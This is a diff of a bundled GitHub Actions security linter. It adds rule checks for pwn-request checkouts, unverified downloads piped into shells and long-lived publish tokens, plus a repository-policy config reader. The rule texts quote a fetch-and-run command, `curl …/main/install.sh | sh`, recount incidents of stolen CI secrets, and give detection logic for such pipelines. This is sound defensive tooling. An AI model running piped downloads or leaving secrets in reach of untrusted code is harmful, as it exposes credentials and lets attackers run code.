+  check({ file, report: report4 }) {
     for (const expression of evaluatedExpressions(file)) {
       if (!/contains/i.test(expression.text)) continue;
       const ast = expression.parsed.ast;
@@ -20170,7 +21675,7 @@ var unsoundContains = {
         const path = contextPath(needle, { caseInsensitive: true });
         if (!path) return;
         const controllable = CONTROLLABLE.some((pattern) => pattern.test(path));
-        report2({
+        report4({
           span: { start: node.start, end: node.end },
           message: `\`contains('${String(haystack.value)}', ${path})\` tests whether \`${path}\` is a substring of the literal, not whether it is one of its words${controllable ? `; \`${path}\` can be chosen to pass` : ""}`,
           severity: controllable ? "high" : "informational"
@@ -20203,7 +21708,7 @@ var unsoundTernary = {
     why: "Expressions have no ternary operator before `case()`; the `&&`/`||` idiom is everywhere, and with a falsy middle value it silently inverts: `${{ github.event_name == 'push' && false || true }}` is always `true`, so a flag meant to be off for pushes (a dry run, `--no-publish`) is on.",
     fix: "Swap the branches and negate the condition (`!cond && 'x' || ''`), or use `case(cond, '', 'x')`."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const expression of evaluatedExpressions(file)) {
       if (!expression.text.includes("&&") || !expression.text.includes("||")) continue;
       const ast = expression.parsed.ast;
@@ -20214,7 +21719,7 @@ var unsoundTernary = {
         if (left.type !== "binary" || left.op !== "&&" || !isFalsyLiteral(left.right)) return;
         const literal = unwrap2(left.right);
         const shown2 = literal.type === "literal" ? literal.kind === "string" ? `''` : String(literal.value) : "?";
-        report2({
+        report4({
           span: { start: node.start, end: node.end },
           message: `\`… && ${shown2} || …\` never evaluates to ${shown2}: when the condition holds, ${shown2} is falsy and the \`||\` branch is taken instead`
         });
@@ -20266,7 +21771,7 @@ var untrustedCheckout = {
     why: 'This is the "pwn request". At spotbugs (2024) a `pull_request_target` workflow checked out `refs/pull/N/merge` and ran Maven with a maintainer PAT in the environment; the stolen PAT led to reviewdog and then to tj-actions/changed-files. PostHog (2025) ran a script from the pull request with a bot PAT that published to npm; Trivy (2026, hackerbot-claw) ran `uses: ./.github/actions/setup-go` from the checked-out pull request with an org PAT; the prt-scan wave (2026) opened mass pull requests against workflows that ran `npm install` on the head commit.',
     fix: "Build pull requests under `pull_request` (no secrets, read-only token for forks). If results must be posted back, upload them as an artifact and let a separate `workflow_run` job post them without checking out or executing anything from the pull request. If a privileged job really must look at the code, check it out into a subdirectory and only read it as data."
   },
-  check({ file, report: report2, workspace }) {
+  check({ file, report: report4, workspace }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const own = privilegedTriggers(workflow, TRIGGERS3);
@@ -20275,7 +21780,7 @@ var untrustedCheckout = {
         const { job, checkout, executions } = path;
         const reach = reachOf(path.secrets, tokenMayWrite(workflow, job));
         const first = executions[0];
-        report2({
+        report4({
           span: first.span,
           message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how} under \`${own.join("`/`")}\`${reach ? `, with ${reach} in reach` : " (the job's cache and artifacts are in reach)"}`,
           severity: reach ? "high" : "medium",
@@ -20298,7 +21803,7 @@ var untrustedCheckout = {
           const reach = reachOf(path.secrets, calledJobMayWrite(workflow, job, callers));
           const first = executions[0];
           const named = callers.slice(0, 3).map((caller) => `\`${caller.path}\``).join(", ");
-          report2({
+          report4({
             span: first.span,
             message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how}; this reusable workflow is called under \`${triggers.join("`/`")}\` by ${named}${callers.length > 3 ? "…" : ""}${reach ? `, with ${reach} in reach` : " (the job's cache and artifacts are in reach)"}`,
             severity: reach ? "high" : "medium",
@@ -20346,7 +21851,7 @@ var untrustedCheckout = {
         }
       ];
       const reach = reachOf(first.secrets, calledJobMayWrite(called, first.job, self));
-      report2({
+      report4({
         span: job.uses.valueSpan,
         message: `job \`${job.id}\` calls \`${target.path}\` under \`${triggersHere.join("`/`")}\`, and its job \`${first.job.id}\` runs ${first.executions[0].what} on pull request code fetched by ${first.checkout.how}${reach ? `, with ${reach} in reach` : ""}`,
         severity: reach ? "high" : "medium",
@@ -20706,8 +22211,8 @@ var unverifiedDownload = {
     why: "A SHA-pinned action is immutable; what it downloads is not. In LiteLLM (2026, PYSEC-2026-2) the publishing job ran `curl …/main/install.sh | sh` and installed a scanner whose release had been replaced, which stole the PyPI credential. Codecov's bash uploader (2021) was altered at its download URL and exfiltrated CI secrets for two months. Astral calls this the gap no tool covers: download, then `sha256sum -c` against a pinned checksum.",
     fix: 'Pin the version in the URL and verify it before use: `echo "<sha256>  tool.tar.gz" | sha256sum -c -` (or `gh attestation verify`, `cosign verify-blob`, `minisign -V`, `gpg --verify`). Never pipe a download into a shell. Record known hashes in the rule\'s `checksums` map (URL or URL pattern with `*` → sha256) to get a quick fix that inserts the check.'
   },
-  check({ file, config, report: report2 }) {
-    binaryDownloads(file, report2);
+  check({ file, config, report: report4 }) {
+    binaryDownloads(file, report4);
     const jobs = file.workflow ? file.workflow.jobs : file.action ? [null] : [];
     for (const job of jobs) {
       const scripts = runScriptsOf(file, job);
@@ -20721,7 +22226,7 @@ var unverifiedDownload = {
           else if ((name === "pip" || name === "pip3" || name.startsWith("python") && command.argv[2]?.text === "pip") && args(command).some((word) => word.text === "install")) {
             const target = args(command).find((word) => /^(https?:\/\/|git\+)/.test(word.text));
             if (target && !/#sha256=|--require-hashes/.test(run2.script.text) && !/@[0-9a-f]{40}/.test(target.text)) {
-              report2({
+              report4({
                 span: run2.sourceSpan(target.span),
                 message: `\`pip install\` installs \`${target.text}\` straight from a URL, with no hash: whoever controls that URL controls the install`,
                 severity: "medium",
@@ -20737,7 +22242,7 @@ var unverifiedDownload = {
           for (let hops = 0; next && FILTERS2.has(nameOf2(next)) && next.pipesTo && hops < 8; hops++) next = pipedInto(run2.script, next);
           if (next) {
             if (SHELLS.has(nameOf2(next)) || next.name === "sudo" && SHELLS.has(next.argv[0]?.text ?? "")) {
-              report2({
+              report4({
                 span,
                 message: `\`${url}\` is downloaded and piped straight into \`${next.name}\`: whoever controls that URL (or its release) runs code in this job`,
                 severity: "high",
@@ -20748,7 +22253,7 @@ var unverifiedDownload = {
             }
             if (EXTRACT.has(nameOf2(next)) && !verified(scripts, download)) {
               const overRoot = extractDestination(next) === "/";
-              report2({
+              report4({
                 span,
                 message: `\`${url}\` is downloaded and extracted (\`${next.name}\`)${overRoot ? " over `/`" : ""} with no checksum or signature check`,
                 severity: overRoot ? "high" : "medium",
@@ -20763,7 +22268,7 @@ var unverifiedDownload = {
               (other) => !other.inSubstitution && other.span.start <= command.span.start && other.span.end >= command.span.end
             );
             if (outer && SHELLS.has(outer.name)) {
-              report2({
+              report4({
                 span,
                 message: `\`${url}\` is downloaded and executed by \`${outer.name}\` in one go: whoever controls that URL runs code in this job`,
                 severity: "high",
@@ -20790,7 +22295,7 @@ var unverifiedDownload = {
               ]
             });
           }
-          report2({
+          report4({
             span,
             message: `\`${url}\` is downloaded${download.file ? ` to \`${download.file}\`` : ""} and then ${PAST[use.what] ?? use.what}, with no checksum or signature check${hash ? " (its sha256 is recorded in the configuration)" : ""}`,
             severity: use.what === "extracts" ? "medium" : "high",
@@ -20822,7 +22327,7 @@ function atLeast(used, since) {
   return true;
 }
 var EXACT_VERSION = /^v?\d+\.\d+\.\d+$/;
-function binaryDownloads(file, report2) {
+function binaryDownloads(file, report4) {
   for (const site of file.uses) {
     const uses = site.reference;
     if (uses.kind !== "remote" || !site.step || uses.isReusableWorkflow || uses.subpath) continue;
@@ -20833,7 +22338,7 @@ function binaryDownloads(file, report2) {
     if (entry.toolCacheFirst && input2(entry.toolCacheFirst.input)?.toLowerCase() !== "true") continue;
     const problem = unchecked(entry, input2, () => usedVersion(file, site, uses));
     if (!problem) continue;
-    report2({
+    report4({
       span: site.entry.valueSpan,
       message: `\`${site.value}\` downloads ${entry.binary} from ${entry.from} ${problem}: ${entry.advice}`,
       severity: "low",
@@ -20865,6 +22370,7 @@ function unchecked(entry, input2, version2) {
       if (checksum) return null;
       const wanted = input2(verification.versionInput);
       if (wanted !== null && EXACT_VERSION.test(wanted)) return null;
+      if (wanted?.includes("${{")) return null;
       const chosen = wanted === null ? "the version it finds in the project or the latest" : `\`${wanted}\``;
       return `and checks it only against the checksum list bundled in the action's release (\`${verification.input}\` is ${checksum === null ? "not set" : "empty"}; \`${verification.versionInput}\` selects ${chosen}, and a newer release is installed unchecked)`;
     }
@@ -20895,7 +22401,7 @@ var useTrustedPublishing = {
     why: "A stored publish token works from anywhere until someone revokes it. Nx s1ngularity (2025) and elementary-data (2026) lost `NPM_TOKEN` / PyPI passwords from injectable workflows; LiteLLM (2026, PYSEC-2026-2) had its PyPI credential stolen by a compromised scanner running in the publishing job; Ultralytics (2024) saw 8.3.45/46 published with a stolen token after the Trusted Publishing path was closed. With Trusted Publishing there is no token to steal: the registry trusts this repository, workflow and environment only for minutes.",
     fix: "Register the workflow as a trusted publisher on the registry, grant the job `permissions: id-token: write`, run it in a protected `environment:`, and drop the token: `pypa/gh-action-pypi-publish` without `password`, `uv publish` / `twine` via the OIDC exchange, `npm publish --provenance` with npm ≥ 11.5, `rust-lang/crates-io-auth-action`, `rubygems/release-gem`, NuGet's `NuGet/login`."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     const seen = /* @__PURE__ */ new Set();
     const jobs = workflow ? workflow.jobs.map((job) => ({ job, steps: job.steps })) : file.action ? [{ job: null, steps: file.action.steps }] : [];
@@ -20918,7 +22424,7 @@ var useTrustedPublishing = {
         const value = input(step, credential.key) ?? "";
         if (credential.key === "password" && /secrets\.GITHUB_TOKEN/i.test(value)) continue;
         seen.add(entry.keySpan.start);
-        report2({
+        report4({
           span: entry.keySpan,
           message: `\`${action.name}\` publishes to ${credential.registry} with a long-lived credential (\`${credential.key}\`); ${credential.registry} supports Trusted Publishing${oidc2 ? " and this job already has `id-token: write`: drop the credential" : ": grant `id-token: write` and drop it"}`
         });
@@ -20944,7 +22450,7 @@ var useTrustedPublishing = {
         const span = run2.sourceSpan({ start: command.argv[0].span.start, end: (command.argv[1] ?? command.argv[0]).span.end });
         if (seen.has(span.start)) continue;
         seen.add(span.start);
-        report2({
+        report4({
           span,
           message: `\`${publish.label}\` publishes to ${registry} with a long-lived credential (${credential}); ${registry} supports Trusted Publishing: grant the job \`id-token: write\` and drop the token`
         });
@@ -20980,6 +22486,7 @@ var RULES = [
   archivedUses,
   typosquatUses,
   forbiddenUses,
+  repositoryPolicy,
   dependabotCooldown,
   dependabotExecution,
   dependabotMissingActions,
@@ -20998,6 +22505,7 @@ var RULES = [
   artipacked,
   cachePoisoning,
   secretsInherit,
+  secretsForwarded,
   secretsOutsideEnv,
   selfHostedRunner,
   useTrustedPublishing,
@@ -21170,8 +22678,10 @@ var OUR_TOP_LEVEL_KEYS = [
   "pinning",
   "checksums",
   "follow-dependencies",
+  "policy",
   "rules"
 ];
+var POLICY_KEYS = ["repository", "require-sha-pinning", "allowed", "default-permissions", "can-approve-pull-requests"];
 var RULE_KEYS_OURS = ["disable", "ignore", "config", "severity", "remap"];
 var RULE_KEYS_ZIZMOR = ["disable", "ignore", "config", "remap"];
 function knownRuleIds() {
@@ -21197,7 +22707,7 @@ function spanOf2(node, fallback) {
   const range = node?.range;
   return range ? { start: range[0], end: range[1] } : fallback;
 }
-function plain(node) {
+function plain2(node) {
   try {
     return node?.toJSON?.() ?? (isScalar(node) ? node.value : null);
   } catch {
@@ -21338,6 +22848,9 @@ function parseConfig(text, path, format) {
         }
         break;
       }
+      case "policy":
+        readPolicy(value ?? pair.key, config, ruleSettings("repository-policy"), problem);
+        break;
       case "follow-dependencies":
         if (isScalar(value) && typeof value.value === "boolean") config.followDependencies = value.value;
         else problem(value ?? pair.key, "`follow-dependencies` must be `true` or `false`.");
@@ -21473,6 +22986,83 @@ function readPolicies(node, key, problem) {
   }
   return out;
 }
+function readPolicy(node, config, settings, problem) {
+  if (!isMap(node)) {
+    problem(node, `\`policy\` must be a mapping with ${POLICY_KEYS.join(", ")}.`);
+    return;
+  }
+  const policy = { source: "config", patterns: [] };
+  const flag = (item, key) => {
+    const value = isScalar(item.value) ? item.value.value : void 0;
+    if (typeof value === "boolean") return value;
+    problem(item.value ?? item.key, `\`policy.${key}\` must be true or false.`);
+    return void 0;
+  };
+  for (const item of node.items) {
+    const key = isScalar(item.key) ? String(item.key.value) : "";
+    switch (key) {
+      case "repository": {
+        const text = isScalar(item.value) && typeof item.value.value === "string" ? item.value.value.trim() : "";
+        const parts = text.split("/");
+        if (parts.length === 2 && /^[A-Za-z0-9][A-Za-z0-9-]{0,38}$/.test(parts[0]) && /^[A-Za-z0-9._-]{1,100}$/.test(parts[1])) {
+          config.policyRepository = text;
+          policy.repository = text;
+        } else problem(item.value ?? item.key, "`policy.repository` must be `owner/repo`.");
+        break;
+      }
+      case "require-sha-pinning":
+        policy.shaPinningRequired = flag(item, key);
+        break;
+      case "can-approve-pull-requests":
+        policy.canApprovePullRequestReviews = flag(item, key);
+        break;
+      case "default-permissions": {
+        const value = isScalar(item.value) ? item.value.value : void 0;
+        if (value === "read" || value === "write") policy.defaultWorkflowPermissions = value;
+        else problem(item.value ?? item.key, "`policy.default-permissions` must be `read` or `write`.");
+        break;
+      }
+      case "allowed": {
+        const items = isSeq(item.value) ? item.value.items : null;
+        if (!items) {
+          problem(item.value ?? item.key, "`policy.allowed` must be a list of patterns (`owner/*`, `owner/repo@*`, `!owner/repo@v1`).");
+          break;
+        }
+        policy.allowedActions = "selected";
+        for (const entry of items) {
+          const text = isScalar(entry) && typeof entry.value === "string" ? entry.value.trim() : "";
+          const wrong = policyPatternProblem(text);
+          if (wrong === null) policy.patterns.push(text);
+          else problem(entry, `\`${text}\` is not an allowed-actions pattern: ${wrong}.`);
+        }
+        break;
+      }
+      default: {
+        const suggestion2 = closestName(key, POLICY_KEYS);
+        problem(
+          item.key,
+          `Unknown key \`policy.${key}\`${suggestion2 ? `: did you mean \`${suggestion2}\`?` : `: expected ${POLICY_KEYS.join(", ")}.`}`,
+          suggestion2 ? "error" : "warning"
+        );
+      }
+    }
+  }
+  settings.config = { ...settings.config, policy };
+}
+function policyPatternProblem(pattern) {
+  if (pattern === "") return "it is empty";
+  for (let i = 0; i < pattern.length; i++) {
+    const c = pattern.charCodeAt(i);
+    if (c <= 32 || c === 127) return "a pattern has no spaces or control characters";
+  }
+  const body = pattern.startsWith("!") ? pattern.slice(1) : pattern;
+  const at = body.indexOf("@");
+  const target = at === -1 ? body : body.slice(0, at);
+  if (at !== -1 && (body.slice(at + 1) === "" || body.indexOf("@", at + 1) !== -1)) return "one ref (or `*`) after a single `@`";
+  const slash = target.indexOf("/");
+  if (slash <= 0) return "it names an owner and a repository (`owner/repo`, `owner/*`)";
+  return null;
+}
 function readRuleOptions(id, known, node, problem) {
   const out = {};
   const table = ruleOptions(id);
@@ -21482,7 +23072,7 @@ function readRuleOptions(id, known, node, problem) {
     const key = `rules.${id}.config.${name}`;
     const descriptor = table[name];
     if (!known) {
-      out[name] = plain(item.value);
+      out[name] = plain2(item.value);
       continue;
     }
     if (!descriptor) {
@@ -21754,514 +23344,6 @@ function hasUtf8Bom(bytes) {
   return bytes.length >= 3 && bytes[0] === 239 && bytes[1] === 187 && bytes[2] === 191;
 }
 
-// server/src/parse/guards.ts
-var MAX_NESTING2 = 200;
-function measureNesting(text, limit = MAX_NESTING2) {
-  let maxDepth = 0;
-  let flow = 0;
-  const indents = [];
-  let nextSquare = -2;
-  let nextCurly = -2;
-  let lineStart2 = 0;
-  while (lineStart2 <= text.length) {
-    let lineEnd = text.indexOf("\n", lineStart2);
-    if (lineEnd === -1) lineEnd = text.length;
-    let i = lineStart2;
-    while (i < lineEnd && text.charCodeAt(i) === 32) i++;
-    let column = i - lineStart2;
-    let markers = 0;
-    while (i < lineEnd && text.charCodeAt(i) === 45 && (i + 1 >= lineEnd || text.charCodeAt(i + 1) === 32 || text.charCodeAt(i + 1) === 13)) {
-      markers++;
-      i += 2;
-      while (i < lineEnd && text.charCodeAt(i) === 32) i++;
-    }
-    const rest = i < lineEnd ? text.charCodeAt(i) : -1;
-    const blank = markers === 0 && (rest === -1 || rest === 35 || rest === 13);
-    if (!blank) {
-      while (indents.length > 0 && indents[indents.length - 1] >= column) indents.pop();
-      indents.push(column);
-      column += markers;
-      const depth = indents.length + markers;
-      if (depth > maxDepth) maxDepth = depth;
-      if (depth > limit) return { depth, offset: lineStart2 };
-    }
-    if (nextSquare !== -1 && nextSquare < i) nextSquare = text.indexOf("[", i);
-    if (nextCurly !== -1 && nextCurly < i) nextCurly = text.indexOf("{", i);
-    const opensHere = nextSquare !== -1 && nextSquare < lineEnd || nextCurly !== -1 && nextCurly < lineEnd;
-    let quote2 = 0;
-    for (let j = flow === 0 && !opensHere ? lineEnd : i; j < lineEnd; j++) {
-      const c = text.charCodeAt(j);
-      if (quote2) {
-        if (c === quote2) quote2 = 0;
-        continue;
-      }
-      if (c === 39 || c === 34) {
-        const before = j > lineStart2 ? text.charCodeAt(j - 1) : 32;
-        if (before === 32 || before === 91 || before === 123 || before === 44 || before === 58) quote2 = c;
-      } else if (c === 35 && (j === lineStart2 || text.charCodeAt(j - 1) === 32)) {
-        break;
-      } else if (c === 91 || c === 123) {
-        flow++;
-        if (flow > maxDepth) maxDepth = flow;
-        if (flow > limit) return { depth: flow, offset: j };
-      } else if ((c === 93 || c === 125) && flow > 0) {
-        flow--;
-      }
-    }
-    lineStart2 = lineEnd + 1;
-  }
-  return { depth: maxDepth, offset: -1 };
-}
-
-// server/src/parse/incremental.ts
-var PARSE_OPTIONS = { keepSourceTokens: false, uniqueKeys: true, prettyErrors: false, strict: true };
-function diffTexts(before, after) {
-  const limit = Math.min(before.length, after.length);
-  let start = 0;
-  while (start + DIFF_BLOCK <= limit && before.substring(start, start + DIFF_BLOCK) === after.substring(start, start + DIFF_BLOCK))
-    start += DIFF_BLOCK;
-  while (start < limit && before.charCodeAt(start) === after.charCodeAt(start)) start++;
-  const maxSuffix = limit - start;
-  let suffix = 0;
-  while (suffix + DIFF_BLOCK <= maxSuffix && before.substring(before.length - suffix - DIFF_BLOCK, before.length - suffix) === after.substring(after.length - suffix - DIFF_BLOCK, after.length - suffix))
-    suffix += DIFF_BLOCK;
-  while (suffix < maxSuffix && before.charCodeAt(before.length - 1 - suffix) === after.charCodeAt(after.length - 1 - suffix)) suffix++;
-  return { start, oldEnd: before.length - suffix, newEnd: after.length - suffix };
-}
-var DIFF_BLOCK = 512;
-function lineStartOf(text, offset) {
-  return text.lastIndexOf("\n", offset - 1) + 1;
-}
-function keyStart(pair) {
-  const key = pair.key;
-  return key && isScalar(key) && key.range ? key.range[0] : null;
-}
-function findRegion(doc, text, change) {
-  const root = doc.contents;
-  if (!root || !isMap(root) || root.flow) return null;
-  const tops = root.items;
-  for (let t = 0; t < tops.length; t++) {
-    const value = tops[t].value;
-    const topKey = keyStart(tops[t]);
-    if (topKey === null || topKey > change.start) return null;
-    const nextTop = t + 1 < tops.length ? keyStart(tops[t + 1]) : text.length;
-    if (nextTop === null) return null;
-    if (change.start >= nextTop && !(nextTop === text.length && change.start === nextTop)) continue;
-    if (!value || !isMap(value) || value.flow) return null;
-    if (nextTop !== text.length && lineStartOf(text, nextTop) !== nextTop) return null;
-    const items = value.items;
-    for (let index2 = 0; index2 < items.length; index2++) {
-      const here = keyStart(items[index2]);
-      const next = index2 + 1 < items.length ? keyStart(items[index2 + 1]) : nextTop;
-      if (here === null || next === null) return null;
-      const start = lineStartOf(text, here);
-      const end = next === text.length ? next : lineStartOf(text, next);
-      const inside2 = change.start >= start && change.start <= end;
-      if (!inside2) continue;
-      if (change.oldEnd > end || end <= start) return null;
-      const indent = here - start;
-      if (!/^ *$/.test(text.slice(start, here))) return null;
-      if (index2 + 1 < items.length && (next - end !== indent || !/^ *$/.test(text.slice(end, next)))) return null;
-      return { parent: value, index: index2, start, end, indent };
-    }
-    return null;
-  }
-  return null;
-}
-function staysIndented(region, indent) {
-  let at = region.indexOf("\n");
-  while (at !== -1 && at + 1 < region.length) {
-    const from = at + 1;
-    let column = from;
-    while (column < region.length && region.charCodeAt(column) === 32) column++;
-    const c = region[column];
-    const blank = column >= region.length || c === "\n" || c === "\r" || c === "#";
-    if (!blank && column - from <= indent) return false;
-    at = region.indexOf("\n", from);
-  }
-  return true;
-}
-function plain2(node) {
-  if (node === null || node === void 0) return true;
-  if (isAlias(node)) return false;
-  if (isPair(node)) return plain2(node.key) && plain2(node.value);
-  const n = node;
-  if (n.anchor) return false;
-  if (isMap(n) || isSeq(n)) {
-    for (const item of n.items) if (!plain2(item)) return false;
-  }
-  return true;
-}
-function shiftInPlace(node, delta) {
-  if (node === null || node === void 0) return;
-  if (isPair(node)) {
-    shiftInPlace(node.key, delta);
-    shiftInPlace(node.value, delta);
-    return;
-  }
-  const n = node;
-  if (n.range) n.range = [n.range[0] + delta, n.range[1] + delta, n.range[2] + delta];
-  if (isMap(n) || isSeq(n)) for (const item of n.items) shiftInPlace(item, delta);
-}
-function copyShifted(node, shift, before, replace, replacement) {
-  if (node === null || node === void 0) return node;
-  if (node === replace) return replacement;
-  if (isPair(node))
-    return new Pair(
-      copyShifted(node.key, shift, before, replace, replacement),
-      copyShifted(node.value, shift, before, replace, replacement)
-    );
-  const n = node;
-  if (n.range && n.range[2] <= before) return n;
-  let copy;
-  if (isScalar(n)) copy = Object.assign(new Scalar(n.value), n);
-  else if (isMap(n) || isSeq(n)) {
-    const collection = n;
-    copy = Object.assign(isMap(n) ? new YAMLMap(collection.schema) : new YAMLSeq(collection.schema), n);
-    if (copy[MAP_INDEX] !== void 0) copy[MAP_INDEX] = void 0;
-    const items = collection.items;
-    const copied = new Array(items.length);
-    for (let i = 0; i < items.length; i++) copied[i] = copyShifted(items[i], shift, before, replace, replacement);
-    copy.items = copied;
-  } else throw new Unsupported();
-  if (n.range) {
-    const [a, b, c] = n.range;
-    copy.range = [shift(a), shift(b), shift(c)];
-  }
-  return copy;
-}
-var Unsupported = class extends Error {
-};
-var PLAIN = new AttachedCache("plain-document");
-var SENTINEL = "__actions_warden_next_entry__";
-function isLineLocal(error, sourceLength) {
-  if (error.pos[1] > sourceLength) return false;
-  switch (error.code) {
-    case "MISSING_CHAR":
-      return error.message.startsWith("Implicit map keys need to be followed by map values") || error.message.startsWith("Sequence item without - indicator");
-    case "MULTILINE_IMPLICIT_KEY":
-    case "BLOCK_AS_IMPLICIT_KEY":
-      return true;
-    case "BAD_INDENT":
-      return error.message.startsWith("All mapping items must start at the same column");
-    default:
-      return false;
-  }
-}
-function withOffset(error, offset) {
-  const moved = Object.create(Object.getPrototypeOf(error), Object.getOwnPropertyDescriptors(error));
-  moved.pos = [error.pos[0] + offset, error.pos[1] + offset];
-  return moved;
-}
-var incrementalStats = { reparsed: 0, fallbacks: {} };
-function fail2(reason) {
-  incrementalStats.fallbacks[reason] = (incrementalStats.fallbacks[reason] ?? 0) + 1;
-  return null;
-}
-function reparseIncrementally(previousDoc, previousText, text, change = diffTexts(previousText, text)) {
-  if (previousDoc.errors.length > 0 || previousDoc.warnings.length > 0) return fail2("base-has-errors");
-  let plainDoc = PLAIN.get(previousDoc);
-  if (plainDoc === void 0) PLAIN.set(previousDoc, plainDoc = plain2(previousDoc.contents));
-  if (!plainDoc) return fail2("anchor-or-alias");
-  if (previousDoc.directives?.docStart || previousText.startsWith("%")) return fail2("directives");
-  const lineStart2 = lineStartOf(previousText, change.start);
-  if (/^ *$/.test(previousText.slice(lineStart2, change.start))) {
-    let { start, oldEnd, newEnd } = change;
-    while (start > lineStart2 && previousText.charCodeAt(oldEnd - 1) === text.charCodeAt(newEnd - 1)) {
-      start--;
-      oldEnd--;
-      newEnd--;
-    }
-    change = { start, oldEnd, newEnd };
-  }
-  const region = findRegion(previousDoc, previousText, change);
-  if (!region) return fail2("outside-entry");
-  const delta = change.newEnd - change.oldEnd;
-  const end = region.end + delta;
-  const source = text.slice(region.start, end);
-  if (!staysIndented(source, region.indent)) return fail2("not-indented");
-  if (measureNesting(source, MAX_NESTING2 - 2).offset !== -1) return fail2("too-deep");
-  if (/[|>][+-]?[1-9]/.test(source)) return fail2("indentation-indicator");
-  const last = region.index === region.parent.items.length - 1;
-  const eol = source.endsWith("\r\n") ? "\r\n" : "\n";
-  if (end !== text.length && !source.endsWith("\n")) return fail2("no-line-break-after-entry");
-  const sentinel = last ? "" : `${" ".repeat(region.indent)}${SENTINEL}: 0${eol}`;
-  let part;
-  try {
-    part = parseDocument(source + sentinel, PARSE_OPTIONS);
-  } catch {
-    return fail2("entry-parse-threw");
-  }
-  if (part.errors.some((error) => !isLineLocal(error, source.length)) || part.warnings.length > 0 || part.directives?.docStart)
-    return fail2("entry-has-errors");
-  const contents = part.contents;
-  const expected = last ? 1 : 2;
-  if (!contents || !isMap(contents) || contents.flow || contents.items.length !== expected)
-    return fail2("not-one-block-entry");
-  if (!last) {
-    const stand = contents.items[1].key;
-    if (!stand || !isScalar(stand) || stand.value !== SENTINEL || stand.range?.[0] !== source.length + region.indent)
-      return fail2("not-one-block-entry");
-  }
-  const pair = contents.items[0];
-  const key = pair.key;
-  if (!key || !isScalar(key) || !key.range || key.range[0] !== region.indent || !plain2(pair)) return fail2("key-moved-or-anchor");
-  const name = key.value;
-  if (name === "<<" || name === SENTINEL) return fail2("merge-key");
-  for (let i = 0; i < region.parent.items.length; i++) {
-    const other = region.parent.items[i].key;
-    if (i !== region.index && other && isScalar(other) && other.value === name) return fail2("duplicate-key");
-  }
-  const replaced = region.parent.items[region.index];
-  shiftInPlace(pair, region.start);
-  if (last) {
-    const oldEnd = replaced.value?.range?.[2];
-    const newEnd = pair.value?.range?.[2];
-    const standalone = contents.range;
-    if (oldEnd !== region.end || newEnd !== end || !standalone || standalone[1] !== standalone[2]) return fail2("last-entry-trailing-lines");
-  }
-  const oldOffsets = [...replaced.key?.range ?? [], ...replaced.value?.range ?? []];
-  const newOffsets = [...pair.key?.range ?? [], ...pair.value?.range ?? []];
-  const shift = (offset) => {
-    if (offset <= region.start) return offset;
-    if (offset >= region.end) return offset + delta;
-    const at = oldOffsets.indexOf(offset);
-    if (at === -1 || at >= newOffsets.length) throw new Unsupported();
-    return newOffsets[at];
-  };
-  let copied;
-  try {
-    copied = copyShifted(previousDoc.contents, shift, region.start, replaced, pair);
-  } catch (error) {
-    if (error instanceof Unsupported) return fail2("offset-inside-entry");
-    throw error;
-  }
-  const doc = Object.create(Object.getPrototypeOf(previousDoc), Object.getOwnPropertyDescriptors(previousDoc));
-  doc.contents = copied;
-  doc.errors = part.errors.map((error) => withOffset(error, region.start));
-  doc.warnings = [];
-  try {
-    if (previousDoc.range) doc.range = [shift(previousDoc.range[0]), shift(previousDoc.range[1]), shift(previousDoc.range[2])];
-  } catch {
-    return fail2("offset-inside-entry");
-  }
-  incrementalStats.reparsed++;
-  PLAIN.set(doc, true);
-  return doc;
-}
-
-// server/src/parse/document.ts
-var MAX_REPORTED_YAML_ERRORS = 100;
-var MAX_ANALYSED_LENGTH = 4 * 1024 * 1024;
-function classifyPath(path) {
-  const normalized = path.replace(/\\/g, "/");
-  if (/(^|\/)\.github\/workflows\/actions\.lock$/.test(normalized)) return "lockfile";
-  if (/(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(normalized)) return "workflow";
-  if (/(^|\/)\.github\/dependabot\.ya?ml$/i.test(normalized)) return "dependabot";
-  if (/(^|\/)action\.ya?ml$/i.test(normalized)) return "action";
-  return "unknown";
-}
-var ParsedFile = class {
-  constructor(uri, kind, text, version2 = 0, previous) {
-    this.uri = uri;
-    this.kind = kind;
-    this.text = text;
-    this.version = version2;
-    this.lines = new LineIndex(text);
-    if (kind === "unknown") return;
-    if (text.length > MAX_ANALYSED_LENGTH) {
-      this.problems.push({
-        code: "file-too-large",
-        message: `File is ${Math.round(text.length / 1024)} KiB; files over ${MAX_ANALYSED_LENGTH / 1024 / 1024} MiB are not analysed.`,
-        span: { start: 0, end: Math.min(text.length, this.lines.lineContentEnd(0)) }
-      });
-      return;
-    }
-    const base2 = previous && previous.kind === kind && kind !== "lockfile" ? previous.reparseBase : null;
-    let incremental = null;
-    try {
-      incremental = base2 ? reparseIncrementally(base2.doc, base2.text, text) : null;
-    } catch {
-      incremental = null;
-    }
-    if (!incremental) {
-      const nesting = measureNesting(text);
-      if (nesting.offset !== -1) {
-        this.problems.push({
-          code: "too-deeply-nested",
-          message: `The document nests more than ${MAX_NESTING2} levels deep; it is not analysed.`,
-          span: { start: nesting.offset, end: Math.min(text.length, nesting.offset + 1) }
-        });
-        return;
-      }
-    }
-    try {
-      this.incremental = incremental !== null;
-      this.doc = incremental ?? parseDocument(text, kind === "lockfile" ? LOCKFILE_PARSE_OPTIONS : PARSE_OPTIONS);
-      this.reparseBase = this.doc.errors.length === 0 && this.doc.warnings.length === 0 ? { doc: this.doc, text } : base2;
-    } catch (error) {
-      this.problems.push({ code: "parse-failure", message: `The YAML parser failed: ${String(error)}`, span: { start: 0, end: 0 } });
-      return;
-    }
-    if (this.doc.errors.some((error) => /Maximum call stack size exceeded/.test(error.message))) {
-      this.doc = null;
-      this.problems.push({
-        code: "too-deep",
-        message: "The document nests too deeply to be analysed.",
-        span: { start: 0, end: this.lines.lineContentEnd(0) }
-      });
-      return;
-    }
-    const errors = this.doc.errors;
-    for (let index2 = 0; index2 < Math.min(errors.length, MAX_REPORTED_YAML_ERRORS); index2++) {
-      const error = errors[index2];
-      const start = Math.max(0, Math.min(error.pos[0], text.length));
-      const end = Math.max(start, Math.min(error.pos[1], text.length));
